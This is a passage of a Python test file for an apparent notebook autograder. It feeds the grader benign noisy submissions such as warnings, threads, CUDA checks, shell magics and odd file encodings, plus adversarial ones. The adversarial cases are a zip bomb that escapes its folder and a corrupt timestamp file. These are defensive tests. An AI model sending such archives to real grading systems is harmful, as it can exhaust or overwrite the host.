    ("zip-bomb", "hands in a zip that is two hundred megabytes and climbs out of its folder", _bomb),
    ("bad-timestamp", "hands in a timestamp that is no time", lambda folder, course: (folder / "timestamp.txt").write_bytes(b"\xff" * 500)),
):  # fmt: skip
    attack(name, tries, OWN, hand_in=_with_blank(make))

# ------------------------------------------------------------------------------------------------------------ honest noise

INSIDE = "return mean + torch.randn(n, len(mean), generator=generator) @ torch.linalg.cholesky(cov).T"
for name, tries, code in (
    ("warnings", "warns", "import warnings\nwarnings.warn('careful'); warnings.warn('old', DeprecationWarning)"),
    ("prints", "prints a lot", "for i in range(2000): print('step', i)"),
    ("progress", "draws a progress bar on stderr", "from tqdm import tqdm\nfor _ in tqdm(range(50)): pass"),
    ("logging", "logs", "import logging\nlogging.basicConfig(level=logging.DEBUG); logging.debug('d'); logging.error('e')"),
    ("stderr", "writes to stderr by number", "import os, sys\nos.write(2, b'CUDA initialization: Found no NVIDIA driver\\n'); print('x', file=sys.stderr)"),
    ("cuda", "asks for CUDA and chooses a device", "device = 'cuda' if torch.cuda.is_available() else 'cpu'\ntorch.zeros(1, device=device)"),
    ("matplotlib", "plots on the way", "import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.title('x'); plt.show(); plt.close('all')"),
    ("slow-import", "imports large libraries", "import scipy.stats, torchvision"),
    ("display", "displays", "from IPython.display import display, HTML\ndisplay(HTML('<b>x</b>')); display(mean)"),
    ("own-files", "writes and reads a file of its own", "import json, pathlib\npathlib.Path('notes.json').write_text(json.dumps([1])); json.loads(open('notes.json').read())"),
    ("temporary-files", "uses temporary files and pickles", "import tempfile\nwith tempfile.TemporaryFile() as f: torch.save(mean, f); f.seek(0); torch.load(f)"),
    ("thread", "uses threads", "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(4) as pool: list(pool.map(abs, range(10)))"),
    ("subprocess", "starts a process", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1)'], check=True, capture_output=True)"),
    ("loader", "loads data with workers", "from torch.utils.data import DataLoader\nlist(DataLoader(list(range(8)), batch_size=4, num_workers=2))"),
    ("memory", "takes a gigabyte and gives it back", "x = torch.zeros(1 << 28).fill_(1); del x"),
    ("catches", "catches its own exceptions and collects garbage", "import gc\ntry: 1 / 0\nexcept ZeroDivisionError: pass\ngc.collect()"),
    ("seeds", "sets seeds and the number of threads", "import random, numpy as np\nrandom.seed(0); np.random.rand(3); torch.set_num_threads(2)"),
    ("time", "measures time and sleeps a little", "import time\ntime.sleep(0.3); time.perf_counter()"),
):  # fmt: skip
    once = "if not hasattr(sample_gaussian, 'done'):\n    sample_gaussian.done = True\n"
    honest(name, tries, body(once + "".join(f"    {line}\n" for line in code.splitlines()) + INSIDE))
honest("magics", "has magics and shell lines in the cell", "%matplotlib inline\n!pip list\n" + RIGHT)
honest(
    "top-level",
    "runs code at the top of the cell",
    "import warnings\nwarnings.warn('x')\nprint('hello')\n" + RIGHT + "sample_gaussian(3, torch.zeros(2), torch.eye(2))\n",
)


def _saved(encode):
    def hand_in(folder, blank, right, course):
        import nbformat

        right.cells.append(nbformat.v4.new_markdown_cell("Größe $a<b$, <b>fett</b>, ☃"))
        (folder / "01_sampling.ipynb").write_bytes(encode(nbformat.writes(right, ensure_ascii=False)))

    return hand_in


def _with_timestamp(folder, blank, right, course):
    _saved(str.encode)(folder, blank, right, course)
    (folder / "timestamp.txt").write_text("2027-02-03 12:00:00 UTC")


honest("timestamp", "was collected with a timestamp, and a picture beside the notebook", hand_in=_with_timestamp)
honest("utf-8-bom", "saved with a byte order mark", hand_in=_saved(lambda text: text.encode("utf-8-sig")))
honest("utf-16", "saved by an editor as UTF-16", hand_in=_saved(lambda text: text.encode("utf-16")))
honest("latin-1", "saved by an editor as Latin-1", hand_in=_saved(lambda text: text.encode("latin-1", "replace")))
